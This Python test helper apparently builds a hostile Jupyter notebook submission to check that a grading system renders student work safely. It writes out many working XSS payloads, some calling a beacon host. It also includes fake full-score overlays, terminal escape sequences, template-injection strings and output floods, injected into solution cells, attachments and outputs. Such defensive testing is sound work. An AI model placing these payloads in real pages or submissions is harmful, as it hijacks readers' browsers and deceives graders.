"""A submission that attacks its readers: in text, code, output, names and attachments."""

import base64
import copy

import nbformat

# The mark that every payload sets on the page's root element, if it runs.
MARK = "data-attacked"


def payloads(beacon: str) -> list[str]:
    """Return HTML that runs, or fetches `beacon`, in a page that does not defend itself."""
    run = f"document.documentElement.setAttribute('{MARK}','1');new Image().src='{beacon}/ran'"
    coded = base64.b64encode(f"<script>{run}</script>".encode()).decode()
    return [
        f"<script>{run}</script>",
        f'<img src="{beacon}/img" onerror="{run}">',
        f'<img src=x onerror="{run}">',
        f'<svg onload="{run}"><script>{run}</script></svg>',
        f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
        f'<iframe src="javascript:parent.{run}"></iframe>',
        f'<input autofocus onfocus="{run}">',
        f'<details open ontoggle="{run}"><summary>s</summary></details>',
        f'<video><source onerror="{run}"></video>',
        f'<style>@import "{beacon}/css"; * {{ background: url({beacon}/bg) }}</style>',
        f'<link rel="stylesheet" href="{beacon}/link">',
        f'<meta http-equiv="refresh" content="0;url={beacon}/refresh">',
        f'<base href="{beacon}/"><form action="{beacon}/form"><button>Score: 12/12</button></form>',
        f'<object data="data:text/html;base64,{coded}"></object><embed src="{beacon}/embed">',
        f"<math><mglyph><style><!--</style><img src onerror={run}>--></mglyph></math>",
        '<div style="position:fixed;inset:0;background:white">Score: 12 / 12</div>',
        '<span class="pull-right score">Score: 12.0 / 12.0</span><a name="top" id="toc">x</a>',
        f"</textarea></pre></title><script>{run}</script>",
        "\u202e&#8238;&rlm;\x9b2J\x1b]0;a title\x07",
        "{{ cell.metadata }} {% raw %} <%= 7*7 %>",
    ]


def markdown(beacon: str) -> str:
    """Return the payloads as text, and those that Markdown itself makes."""
    links = [
        f"[click](javascript:document.documentElement.setAttribute('{MARK}','1'))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"![remote]({beacon}/markdown-image)",
        "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
        "![attached](attachment:x.svg)",
        "[file](page.html) [absolute](/files/grading/gradebook.db)",
        r"$\href{javascript:alert(1)}{x}$ $\unicode{<script>}$ $<img src=x onerror=alert(1)>$",
        "`</code><script>alert(1)</script>`",
        "> quoted\n\n| a | b |\n|---|---|\n| 1 < 2 | *and* |\n\n```html\n<b>code</b>\n```",
    ]
    return "My answer, 中文, reads **well**.\n\n" + "\n\n".join([*links, *payloads(beacon)])


def hostile(released, beacon: str):
    """Return the released notebook with attacks in all parts that a student may write."""
    html = "\n".join(payloads(beacon))
    shows = (
        "from IPython.display import display, HTML, Javascript, SVG\nimport warnings\n"
        f"html = {html!r}\n"
        "print(html); print('\\x1b[31mred\\x1b[0m \\x1b]0;title\\x07 \\x1b[2J done')\n"
        "warnings.warn(html)\n"
        "display(HTML(html)); display(Javascript('alert(1)')); display(SVG('<svg/>'))\n"
        "class Shown:\n"
        "    def _repr_html_(self): return html\n"
        "    def _repr_mimebundle_(self, **k): return {'text/html': html, 'text/plain': html}\n"
        "display(Shown())\n"
        "Shown()\n"
    )
    huge = "for i in range(20_000): print('x' * 500)\nraise ValueError(html)\n"
    notebook = copy.deepcopy(released)
    for cell in notebook.cells:
        role = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "markdown" and role.get("solution"):
            cell.source = markdown(beacon)
            cell.attachments = {"x.svg": {"image/svg+xml": html}}
        elif role.get("grade_id") == "write_average_gradients":
            cell.source = (
                f"def average_gradients(params, group=None):\n    raise ValueError({html!r})"
            )
    cells = [nbformat.v4.new_markdown_cell(markdown(beacon)), nbformat.v4.new_raw_cell(html)]
    cells += [nbformat.v4.new_code_cell(source) for source in (shows, huge)]
    notebook.cells[1:1] = cells
    return notebook
